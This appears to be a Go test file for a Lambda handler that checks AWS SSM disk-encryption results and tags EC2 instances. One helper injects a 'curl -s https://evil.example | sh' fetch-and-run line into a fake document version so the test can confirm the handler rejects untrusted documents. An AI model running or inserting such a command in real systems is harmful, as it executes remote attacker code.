package result_test

import (
	"bytes"
	"context"
	"encoding/json"
	"log/slog"
	"strings"
	"testing"
	"time"

	"github.com/aws/aws-lambda-go/events"

	sample "github.com/storecrypt/storecrypt/events"
	"github.com/storecrypt/storecrypt/internal/contract"
	"github.com/storecrypt/storecrypt/internal/fakeaws"
	"github.com/storecrypt/storecrypt/internal/result"
	"github.com/storecrypt/storecrypt/test/deployment"
)

const (
	instanceID = "i-0abcdef1234567890"
	commandID  = "00000001-0000-4000-8000-000000000001"
)

var (
	launched = time.Date(2026, 11, 27, 6, 0, 0, 0, time.UTC)
	now      = launched.Add(95 * time.Second)
	// requested is when the sample events say their command was sent.
	requested = time.Date(2026, 11, 27, 6, 1, 0, 0, time.UTC)
)

// report is the document's output: download lines, then the agent's report; the layout
// shows the volume ready and mounted under the standard key unless edit says otherwise.
func report(res string, code contract.ExitCode, errMsg string, edit ...func(*contract.Report)) string {
	r := contract.Report{Command: "apply", Result: res, ExitCode: int(code), Error: errMsg, InstanceID: instanceID, Devices: []contract.Device{}, Steps: []contract.Step{},
		Layout: &contract.Layout{Volume: "/dev/md127", State: contract.StateReady, Open: true, Mounted: true, Cipher: "aes-xts-plain64", KeySizeBits: 512,
			KeySource: contract.KeySourceKMSDataKey, KeyID: fakeaws.KeyARN, MountPoint: contract.DefaultMountPoint}}
	for _, e := range edit {
		e(&r)
	}
	b, _ := json.MarshalIndent(r, "", "  ")
	return "downloading storecrypt-agent (arm64)\nsha256 ok\n" + string(b) + "\n"
}

func sampleEvent(t *testing.T, file string) events.CloudWatchEvent {
	t.Helper()
	b, err := sample.Read(file)
	if err != nil {
		t.Fatal(err)
	}
	var ev events.CloudWatchEvent
	if err := json.Unmarshal(b, &ev); err != nil {
		t.Fatal(err)
	}
	return ev
}

func inv(status string, code int32, stdout string) *fakeaws.Invocation {
	return &fakeaws.Invocation{Status: status, ResponseCode: code, Stdout: stdout}
}

func TestHandle(t *testing.T) {
	untrusted := func(w *fakeaws.World, _ *events.CloudWatchEvent) {
		d := w.Documents[contract.DocumentName]
		d.Versions = append(d.Versions, strings.Replace(d.Versions[0], "set -eu", "set -eu; curl -s https://evil.example | sh", 1))
		w.Commands[0].DocumentVersion = "2"
	}
	// newer: SSM ran the document again on the instance, after later than this event's
	// command; its invocation is pending when inv is nil.
	newer := func(after time.Duration, inv *fakeaws.Invocation) func(*fakeaws.World, *events.CloudWatchEvent) {
		return func(w *fakeaws.World, _ *events.CloudWatchEvent) {
			c := &fakeaws.Command{ID: "newer", DocumentName: contract.DocumentName, DocumentVersion: "1", InstanceIDs: []string{instanceID},
				Requested: requested.Add(after), Invocations: map[string]*fakeaws.Invocation{}}
			if inv != nil {
				c.Invocations[instanceID] = inv
			}
			w.Commands = append(w.Commands, c)
		}
	}
	status := func(s string) func(*fakeaws.World, *events.CloudWatchEvent) {
		return func(_ *fakeaws.World, ev *events.CloudWatchEvent) {
			ev.Detail = json.RawMessage(strings.Replace(string(ev.Detail), `"Success"`, `"`+s+`"`, 1))
		}
	}
	for _, tc := range []struct {
		name    string
		file    string
		inv     *fakeaws.Invocation
		edit    func(w *fakeaws.World, ev *events.CloudWatchEvent)
		status  string
		reason  contract.Reason
		metric  string
		ignored bool
	}{
		{"success with the agent's evidence", "ssm-success.json", inv("Success", 0, report("ok", 0, "")), nil, contract.StatusEncrypted, "", `"Encrypted":1`, false},
		{"success without a report", "ssm-success.json", inv("Success", 0, "storecrypt: done\n"), nil, contract.StatusUnverified, contract.ReasonNoReport, `"Failed":1`, false},
		{"success, invocation gone", "ssm-success.json", nil, nil, contract.StatusUnverified, contract.ReasonNoReport, `"Failed":1`, false},
		{"success, volume not mounted", "ssm-success.json", inv("Success", 0, report("ok", 0, "", func(r *contract.Report) { r.Layout.Mounted = false })), nil,
			contract.StatusUnverified, contract.ReasonNotReady, `"Reason":"not-ready"`, false},
		{"success, volume still provisioning", "ssm-success.json", inv("Success", 0, report("ok", 0, "", func(r *contract.Report) { r.Layout.State = contract.StateProvisioning })), nil,
			contract.StatusUnverified, contract.ReasonNotReady, `"Failed":1`, false},
		{"success under another key", "ssm-success.json", inv("Success", 0, report("ok", 0, "", func(r *contract.Report) {
			r.Layout.KeyID = "arn:aws:kms:us-east-1:444455556666:key/99999999-2222-4333-8444-555555555555"
		})), nil, contract.StatusUnverified, contract.ReasonWrongKey, `"Failed":1`, false},
		{"success with an ephemeral key", "ssm-success.json", inv("Success", 0, report("ok", 0, "", func(r *contract.Report) {
			r.Layout.KeySource, r.Layout.KeyID = contract.KeySourceEphemeral, ""
		})), nil, contract.StatusUnverified, contract.ReasonWrongKey, `"Failed":1`, false},
		{"success, another instance's report", "ssm-success.json", inv("Success", 0, report("ok", 0, "", func(r *contract.Report) { r.InstanceID = "i-0fffffffffffffff0" })), nil,
			contract.StatusUnverified, contract.ReasonWrongInstance, `"Failed":1`, false},
		{"success of a document version the stack did not deploy", "ssm-success.json", inv("Success", 0, report("ok", 0, "")), untrusted,
			contract.StatusUnverified, contract.ReasonUntrustedDocument, `"Reason":"untrusted-document"`, false},
		{"refused by the agent", "ssm-failed.json", inv("Failed", 3, report("refused-unsafe", 3, "refusing /dev/nvme1n1: it holds ext4")), nil,
			contract.StatusFailed, "refused-unsafe", `"Failed":1`, false},
		{"failed without a report", "ssm-failed.json", inv("Failed", 4, "curl: (7) Failed to connect\n"), nil,
			contract.StatusFailed, "key-unavailable", `"Reason":"key-unavailable"`, false},
		{"timed out", "ssm-timedout.json", inv("TimedOut", -1, ""), nil, contract.StatusFailed, contract.ReasonTimedOut, `"Failed":1`, false},
		{"never delivered", "ssm-timedout.json", &fakeaws.Invocation{Status: "TimedOut", StatusDetails: "Delivery Timed Out", ResponseCode: -1}, nil,
			contract.StatusFailed, contract.ReasonDeliveryTimedOut, `"Reason":"delivery-timed-out"`, false},
		{"canceled, as the event reference spells it", "ssm-success.json", inv("Cancelled", -1, ""), status("Canceled"),
			contract.StatusFailed, contract.ReasonCancelled, `"Failed":1`, false},
		{"another document", "ssm-success.json", inv("Success", 0, ""), func(_ *fakeaws.World, ev *events.CloudWatchEvent) {
			ev.Detail = json.RawMessage(strings.Replace(string(ev.Detail), "storecrypt-apply", "AWS-RunShellScript", 1))
		}, "", "", "", true},
		{"still in progress", "ssm-success.json", inv("InProgress", -1, ""), status("InProgress"), "", "", "", true},
		{"a newer command is pending", "ssm-failed.json", inv("Failed", 1, ""), newer(30*time.Minute, nil), "", "", "", true},
		{"a success from before a stop/start", "ssm-success.json", inv("Success", 0, report("ok", 0, "")), func(w *fakeaws.World, _ *events.CloudWatchEvent) {
			w.Instances[instanceID].LaunchTime = launched.Add(2 * time.Minute)
		}, "", "", "", true},
		{"an older command's result after a newer one's", "ssm-timedout.json", inv("TimedOut", -1, ""), newer(4*time.Minute, inv("Success", 0, report("ok", 0, ""))), "", "", "", true},
		{"tags that claim a newer command SSM never ran", "ssm-timedout.json", inv("TimedOut", -1, ""), func(w *fakeaws.World, _ *events.CloudWatchEvent) {
			w.Instances[instanceID].Tags = map[string]string{contract.TagStatus: contract.StatusEncrypted, contract.TagCommandID: "forged",
				contract.TagLaunchTime: launched.Format(time.RFC3339), contract.TagAt: launched.Add(5 * time.Minute).Format(time.RFC3339)}
		}, contract.StatusFailed, contract.ReasonTimedOut, `"Failed":1`, false},
		{"no readable requested time", "ssm-success.json", inv("Success", 0, report("ok", 0, "")), func(_ *fakeaws.World, ev *events.CloudWatchEvent) {
			ev.Detail = json.RawMessage(strings.Replace(string(ev.Detail), "2026-11-27T06:01:00.000Z", "yesterday", 1))
		}, "", "", "", true},
		{"a console rerun at $DEFAULT, the deployed content", "ssm-success.json", inv("Success", 0, report("ok", 0, "")), func(w *fakeaws.World, _ *events.CloudWatchEvent) {
			w.Commands[0].RequestedVersion = "$DEFAULT"
		}, contract.StatusEncrypted, "", `"Encrypted":1`, false},
		{"a console rerun at $DEFAULT after the default changed", "ssm-success.json", inv("Success", 0, report("ok", 0, "")), func(w *fakeaws.World, ev *events.CloudWatchEvent) {
			untrusted(w, ev)
			w.Documents[contract.DocumentName].Default = 2
			w.Commands[0].RequestedVersion = "$DEFAULT"
		}, contract.StatusUnverified, contract.ReasonUntrustedDocument, `"Failed":1`, false},
		{"another event type", "ec2-running.json", nil, nil, "", "", "", true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			w := fakeaws.NewAccount(t)
			w.AddInstance(instanceID, "i4i.large", fakeaws.Profile(fakeaws.KeyUser), nil, launched)
			d, err := deployment.Into(w, fakeaws.KeyARN)
			if err != nil {
				t.Fatal(err)
			}
			w.With(func() {
				c := &fakeaws.Command{ID: commandID, DocumentName: contract.DocumentName, DocumentVersion: "1", InstanceIDs: []string{instanceID},
					Requested: requested, Invocations: map[string]*fakeaws.Invocation{}}
				if tc.inv != nil {
					c.Invocations[instanceID] = tc.inv
				}
				w.Commands = append(w.Commands, c)
			})
			ev := sampleEvent(t, tc.file)
			if tc.edit != nil {
				w.With(func() { tc.edit(w, &ev) })
			}
			cfg, err := result.LoadConfig(d.Getenv)
			if err != nil {
				t.Fatal(err)
			}
			var logs, metrics bytes.Buffer
			h := result.New(cfg, w.Config(), slog.New(slog.NewJSONHandler(&logs, nil)), &metrics)
			h.Now = func() time.Time { return now }
			out, err := h.Handle(context.Background(), ev)
			if err != nil {
				t.Fatal(err)
			}
			if (out == nil) != tc.ignored {
				t.Fatalf("outcome %+v, ignored=%v", out, tc.ignored)
			}
			var tags map[string]string
			var evs []fakeaws.Event
			w.With(func() {
				tags = w.Instances[instanceID].Tags
				evs = w.Events
			})
			if tags[contract.TagStatus] != tc.status || contract.Reason(tags[contract.TagReason]) != tc.reason {
				t.Errorf("tags %v, want status %q reason %q", tags, tc.status, tc.reason)
			}
			if tc.ignored {
				return
			}
			if tags[contract.TagCommandID] != commandID || tags[contract.TagAt] != now.Format(time.RFC3339) || tags[contract.TagLaunchTime] != launched.Format(time.RFC3339) {
				t.Errorf("tags %v", tags)
			}
			if !strings.Contains(metrics.String(), tc.metric) || !strings.Contains(metrics.String(), `"Namespace":"storecrypt"`) {
				t.Errorf("metrics %s, want %s", metrics.String(), tc.metric)
			}
			if tc.status == contract.StatusEncrypted && !strings.Contains(metrics.String(), `"SecondsToEncrypted":95`) {
				t.Errorf("metrics %s, want SecondsToEncrypted 95", metrics.String())
			}
			if alerted := tc.status != contract.StatusEncrypted; alerted != (len(evs) == 1) {
				t.Errorf("alert events %+v", evs)
			}
			for _, line := range strings.Split(strings.TrimSpace(logs.String()), "\n") {
				if !strings.Contains(line, `"instance_id":"`+instanceID) || !strings.Contains(line, `"event_id"`) {
					t.Errorf("log line without instance and event id: %s", line)
				}
			}
		})
	}
}

func TestLoadConfig(t *testing.T) {
	if _, err := result.LoadConfig(func(string) string { return "" }); err == nil || !strings.Contains(err.Error(), contract.EnvDocumentName) ||
		!strings.Contains(err.Error(), contract.EnvDocumentDigest) || !strings.Contains(err.Error(), contract.EnvKMSKeyARN) {
		t.Errorf("got %v, want an error naming %s, %s and %s", err, contract.EnvDocumentName, contract.EnvDocumentDigest, contract.EnvKMSKeyARN)
	}
	env := map[string]string{contract.EnvDocumentName: "d-1", contract.EnvDocumentDigest: strings.Repeat("0", 64), contract.EnvKMSKeyARN: fakeaws.KeyARN}
	c, err := result.LoadConfig(func(k string) string { return env[k] })
	if err != nil || c.DocumentName != "d-1" || c.EventBus != "default" || c.KeySource != contract.KeySourceKMSDataKey {
		t.Errorf("got %+v, %v", c, err)
	}
	env[contract.EnvKeySource] = contract.KeySourceEphemeral
	if _, err := result.LoadConfig(func(k string) string { return env[k] }); err == nil || !strings.Contains(err.Error(), contract.EnvKeySource) {
		t.Errorf("ephemeral: got %v, want an error naming %s", err, contract.EnvKeySource)
	}
}
